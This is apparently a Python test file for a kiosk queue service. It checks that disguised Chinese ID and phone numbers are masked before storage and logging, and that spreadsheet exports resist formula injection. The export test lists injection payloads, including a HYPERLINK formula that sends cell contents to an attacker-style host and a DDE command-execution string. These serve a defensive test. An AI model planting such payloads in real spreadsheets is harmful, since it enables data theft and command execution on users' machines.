"""Personal data in free text (issue 8, points 4 and 6), against a real ``kiosk queue serve`` process:
ID and phone numbers are masked *before* they are stored, whatever disguise they wear, and no export cell
starts a formula."""

from __future__ import annotations

import io
import json
import logging
import re
import unicodedata
import uuid
from datetime import UTC, datetime

import pytest

from kiosk.privacy import RedactingFilter, redact_text
from tests.queue.hostile import served

# each hides the birth date 19800101 (ID) or the middle 8765 (phone)
DISGUISES = [
    "身份证 4213 0319 8001 0112 3X 请核对",
    "421303-19800101-123X",
    "４２１３０３１９８００１０１１２３Ｘ",
    "421303\u200b19800101\u200d123X",
    "ID421303198001011234号",
    "a421303198001011234b",
    "421303 19800101 1234",
    "电话13987650021",
    "tel 139 8765 0021.",
    "+86 139-8765-0021",
    "１３９８７６５００２１",
    "139\u20608765\u00ad0021",
]
SECRETS = ("19800101", "8765")


def _digits(text: str) -> str:
    text = unicodedata.normalize("NFKC", text)
    return "".join(ch for ch in text if ch.isdigit())


@pytest.mark.parametrize("text", DISGUISES)
def test_6_the_detector_sees_through_disguises(text):
    masked = redact_text(text)
    assert not any(secret in _digits(masked) for secret in SECRETS), masked
    assert "*" in masked


def test_6_the_detector_leaves_ordinary_text_alone():
    for text in ("取号 A017，请到 3 号窗口", "2026-12-06 10:30 已受理", "request 00000000-0000-4000-8000-000000000012",
                 "材料 2 份，复印件 1 份", "邮编 441300"):
        assert redact_text(text) == text


def test_6_the_log_filter_uses_the_same_detector_also_for_tracebacks():
    record = logging.LogRecord("x", logging.ERROR, __file__, 1, "card %s", ("4213 0319 8001 0112 3X",), None)
    try:
        raise ValueError("bad phone 139 8765 0021")
    except ValueError:
        import sys

        record.exc_info = sys.exc_info()
    RedactingFilter().filter(record)
    line = logging.Formatter().format(record)
    assert "ValueError" in line and not any(secret in _digits(line) for secret in SECRETS), line


def test_6_personal_numbers_are_masked_before_they_are_stored(tmp_path):
    from kiosk.queue.db import Database, sqlite_url

    with served(tmp_path / "st") as s, s.client() as c:
        li = {"Authorization": f"Bearer {s.login('li')}"}
        ids = []
        for text in DISGUISES:
            r = c.post("/api/v1/requests", json=s.request_body(note=text, matter_name=text[:100]), headers=s.kiosk())
            assert r.status_code == 201, r.text
            ids.append(r.json()["id"])
            note = {"id": str(uuid.uuid4()), "text": text, "created_at": datetime.now(UTC).isoformat()}
            assert c.post(f"/api/v1/requests/{ids[-1]}/notes", json=note, headers=s.kiosk()).status_code == 201
        assert c.post(f"/api/v1/requests/{ids[0]}/claim", headers=li).status_code == 200
        assert c.post(f"/api/v1/requests/{ids[0]}/release", json={"note": DISGUISES[1]}, headers=li).status_code == 200
        assert c.post(f"/api/v1/requests/{ids[1]}/cancel", json={"reason": "other", "note": DISGUISES[8]},
                      headers=li).status_code == 200
        beat = {"id": str(uuid.uuid4()), "kiosk_id": "k1", "sent_at": datetime.now(UTC).isoformat(),
                "devices": [{"device": "printer", "state": "error", "reason": DISGUISES[2],
                             "detail": {"last": DISGUISES[9]}}]}
        assert c.post("/api/v1/heartbeats", json=beat, headers=s.kiosk()).status_code == 200
        assert c.post(f"/api/v1/requests/{ids[2]}/claim", headers=li).status_code == 200
        assert c.post(f"/api/v1/requests/{ids[2]}/arrive", headers=li).status_code == 200
        case = {"request_id": ids[2], "time_limit_days": 3, "applicant": {"name": "张三", "phone": "13987650021"},
                "authorization": {"signed": True, "note": DISGUISES[3]}, "note": DISGUISES[7],
                "materials": [{"name": "身份证 " + DISGUISES[0]}]}
        r = c.post("/api/v1/cases", json=case, headers=li)
        assert r.status_code == 201, r.text
        r = c.post(f"/api/v1/cases/{r.json()['id']}/start", json={"department": DISGUISES[10]}, headers=li)
        assert r.status_code == 200, r.text
    db = Database(sqlite_url(s.state_dir))
    from sqlalchemy import text

    with db.read() as conn:
        stored = []
        for table in ("requests", "events", "heartbeats", "kiosks", "cases", "case_events"):
            for row in conn.execute(text(f"SELECT * FROM {table}")):  # noqa: S608 - fixed names
                stored.extend(str(v) for v in row if isinstance(v, str | dict | list))
    db.dispose()
    dump = "\n".join(json.loads(json.dumps(stored)))
    assert "*" in dump
    for value in stored:
        if "1398765" in _digits(value) or "19800101" in _digits(value):
            pytest.fail(f"stored in clear: {value[:200]}")


def test_4_no_export_cell_starts_a_formula(tmp_path):
    from openpyxl import load_workbook

    evil = ['=HYPERLINK("http://evil.example/?"&C3&D3,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1", "＝HYPERLINK(\"x\")", "﹦1+1", "＋1", "－1", "＠SUM(A1)"]
    with served(tmp_path / "st") as s, s.client() as c:
        mgr = {"Authorization": f"Bearer {s.login('mgr')}"}
        for i, payload in enumerate(evil):
            case = {"site_code": "T1", "time_limit_days": 1, "matter_name": payload, "note": payload,
                    "applicant": {"name": payload[:60]}, "authorization": {"signed": True, "note": payload},
                    "materials": [{"name": payload}]}
            r = c.post("/api/v1/cases", json=case, headers=mgr)
            assert r.status_code == 201, (i, r.text)
        for masked in ("false", "true"):
            r = c.get(f"/api/v1/cases/export.xlsx?masked={masked}", headers=mgr)
            assert r.status_code == 200
            ws = load_workbook(io.BytesIO(r.content)).active
            cells = [cell for row in ws.iter_rows(min_row=3) for cell in row if isinstance(cell.value, str)]
            assert len(cells) > 20
            for cell in cells:
                assert cell.data_type != "f", cell.value
                assert not re.match(r"^[\s　]*[=+\-@＝﹦＋－＠﹢﹣\t\r]", cell.value), repr(cell.value)
